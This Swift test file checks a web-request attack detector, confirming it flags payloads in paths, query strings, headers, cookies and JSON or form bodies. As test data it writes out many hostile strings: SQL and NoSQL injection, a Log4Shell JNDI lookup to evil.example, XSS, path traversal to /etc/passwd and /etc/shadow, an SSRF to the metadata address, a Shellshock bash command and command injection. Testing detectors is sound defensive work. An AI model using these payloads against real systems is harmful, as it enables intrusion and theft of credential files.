import SightlineCore
import Testing
@testable import SightlineDetection

/// Locations in a captured request: path, query, selected headers, cookies, JSON and form bodies.
struct RequestInspectorTests {
    let inspector = RequestInspector()

    func event(path: String = "/v1/items", query: [(String, String)] = [], headers: [(String, String)] = [],
               body: String? = nil, userAgent: String? = nil) -> Event {
        var e = Event(timestampMicros: 1, service: "api", method: "POST", path: path, status: 200)
        e.query = query.map { QueryParameter(name: $0.0, value: $0.1) }
        e.userAgent = userAgent
        if !headers.isEmpty || body != nil {
            e.request = Exchange(headers: headers.map { Header(name: $0.0, values: [$0.1]) },
                                 body: body.map { RawJSON(unsafeUncheckedBytes: Array($0.utf8)) })
        }
        return e
    }

    func locations(_ e: Event) -> [String: AttackType?] {
        var out: [String: AttackType?] = [:]
        for f in inspector.inspect(e).findings { out[f.location] = f.verdict.type }
        return out
    }

    @Test func benignRequestHasNoFindings() {
        let e = event(
            path: "/v1/users/42/orders", query: [("q", "O'Brien & sons"), ("sort", "id")],
            headers: [("user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
                      ("referer", "http://localhost:3000/app?tab=orders&page=2"), ("cookie", "session=abc123; theme=dark"),
                      ("x-request-id", "'; DROP TABLE x--"), ("authorization", "Bearer ' or 1=1--"),
                      ("content-type", "application/json")],
            body: #"{"name":"Seán O'Neil","note":"select the blue one, or the red","tags":["a","b"],"n":3,"ok":true,"$schema":"x"}"#)
        let scan = inspector.inspect(e)
        #expect(scan.findings.isEmpty, "\(scan.findings)")
        #expect(!scan.truncated)
    }

    @Test func findsEachLocation() {
        let e = event(
            path: "/files/..%2f..%2f..%2fetc%2fpasswd", query: [("q", "1' OR '1'='1"), ("user[$ne]", "x")],
            headers: [("user-agent", "${jndi:ldap://evil.example/a}"), ("x-forwarded-for", "10.0.0.1, 127.0.0.1' or 1=1--"),
                      ("cookie", "theme=dark; lang=<script>alert(1)</script>"), ("referer", "https://shop.example/search?q=%3Csvg/onload=alert(1)%3E"),
                      ("x-custom-callback", "http://169.254.169.254/latest/meta-data/"), ("content-type", "application/json")],
            body: #"{"filter":{"name":{"$ne":null},"comment":"; cat /etc/passwd"},"items":[{"q":"{{7*7}}"}],"js":{"$where":"sleep(100)"}}"#)
        let found = locations(e)
        #expect(found["path[1]"] == .pathTraversal)
        #expect(found["query.q"] == .sqli)
        #expect(found["query.user[$ne]"] == .nosql)
        #expect(found["header.user-agent"] == .log4shell)
        #expect(found["header.x-forwarded-for"] == .sqli)
        #expect(found["cookie.lang"] == .xss)
        #expect(found["header.referer"] == .xss)
        #expect(found["header.x-custom-callback"] == .ssrf)
        #expect(found["body.$.filter.name.$ne"] == .nosql)
        #expect(found["body.$.filter.comment"] == .cmdi)
        #expect(found["body.$.items[0].q"] == .templateInjection)
        #expect(found["body.$.js.$where"] == .nosql)
        #expect(found.count == 12, "\(found.keys.sorted())")
    }

    @Test func formBodyIsSplitIntoValues() {
        let form = event(headers: [("content-type", "application/x-www-form-urlencoded")],
                         body: #""name=Ann+O%27Brien&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&password%5B%24ne%5D=1""#)
        let found = locations(form)
        #expect(found["body.form.comment"] == .xss)
        #expect(found["body.form.password[$ne]"] == .nosql)
        #expect(found["body.form.name"] == nil)
        // no content type: a form-shaped string body is still split
        let bare = event(body: #""a=1&b=..%2f..%2f..%2fetc%2fshadow""#)
        #expect(locations(bare)["body.form.b"] == .pathTraversal)
        // a text body is one value
        let text = event(headers: [("content-type", "text/plain")], body: #""hello\nworld; cat /etc/passwd""#)
        #expect(locations(text)["body"] == .cmdi)
    }

    @Test func jsonStringEscapesAreDecoded() {
        let e = event(body: #"{"html":"\u003cscript\u003ealert(1)\u003c/script\u003e","q":"\"; sleep 5; \""}"#)
        let found = locations(e)
        #expect(found["body.$.html"] == .xss)
        #expect(found["body.$.q"] == .cmdi)
    }

    @Test func noiseHeadersAndAuthorizationAreNotRead() {
        #expect(RequestInspector.checkedHeader("user-agent"))
        #expect(RequestInspector.checkedHeader("x-forwarded-host"))
        #expect(RequestInspector.checkedHeader("x-custom-thing"))
        #expect(!RequestInspector.checkedHeader("authorization"))
        #expect(!RequestInspector.checkedHeader("x-request-id"))
        #expect(!RequestInspector.checkedHeader("x-amz-date"))
        #expect(!RequestInspector.checkedHeader("accept"))
    }

    @Test func userAgentFieldStandsInForMissingHeader() {
        let e = event(userAgent: "() { :; }; /bin/bash -c 'id'")
        #expect(locations(e)["header.user-agent"] == .cmdi)
    }

    @Test func firstAttackStopsEarly() {
        let e = event(query: [("a", "1 UNION SELECT 1,2"), ("b", "<script>alert(1)</script>")])
        let f = inspector.firstAttack(in: e)
        #expect(f?.location == "query.a")
        #expect(inspector.inspect(e).findings.count == 2)
    }

    @Test func capsBoundTheWork() {
        var limits = RequestInspector.Limits()
        limits.maxValues = 10
        limits.maxDepth = 4
        let capped = RequestInspector(limits: limits)
        let many = (0..<500).map { "\"v\($0)\":\"a b/\($0)\"" }.joined(separator: ",")
        let wide = capped.inspect(event(body: "{\(many)}"))
        #expect(wide.valuesClassified == 10)
        #expect(wide.truncated)
        let deep = String(repeating: "{\"a\":", count: 50) + "\"<script>alert(1)</script>\"" + String(repeating: "}", count: 50)
        let d = capped.inspect(event(body: deep))
        #expect(d.findings.isEmpty && d.truncated)
        // a body larger than maxBodyBytes is read up to the cap
        var small = RequestInspector.Limits()
        small.maxBodyBytes = 1_000
        let big = "{\"pad\":\"" + String(repeating: "x ", count: 5_000) + "\",\"q\":\"' or 1=1--\"}"
        let b = RequestInspector(limits: small).inspect(event(body: big))
        #expect(b.truncated && b.findings.isEmpty)
        #expect(RequestInspector().inspect(event(body: big)).findings.first?.location == "body.$.q")
    }

    @Test func malformedBodiesNeverTrap() {
        for body in ["{", "{\"a\":", "[1,2", "\"unterminated", "{\"a\" 1}", "{\"a\":\"\\u12\"}", "nul", "", "]]]", "{\"a\":[{\"b\":\"\\ud800\"}]}"] {
            _ = inspector.inspect(event(body: body))
        }
    }

    @Test func locationsNeverCarryOddBytes() {
        let e = event(query: [("q<script>\u{7}", "' or 1=1--")])
        let loc = inspector.inspect(e).findings.first?.location ?? ""
        #expect(loc == "query.q_script__")
    }
}

extension RequestInspectorTests {
    @Test func headerCacheClassifiesEachDistinctValueOnce() {
        var cache = RequestInspector.HeaderCache(capacity: 8)
        let ua = "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0"
        let bad = "() { :; }; /bin/bash -c 'id'"
        var classified = 0
        for i in 0..<20 {
            let e = event(headers: [("user-agent", i % 2 == 0 ? ua : bad)])
            let scan = inspector.inspect(e, stoppingAtFirst: true, cache: &cache)
            classified += scan.valuesClassified
            #expect(scan.isAttack == (i % 2 == 1))
            #expect(scan.findings.first.map { $0.location == "header.user-agent" } ?? true)
        }
        #expect(classified == 2)
        #expect(cache.count == 2)
    }
}
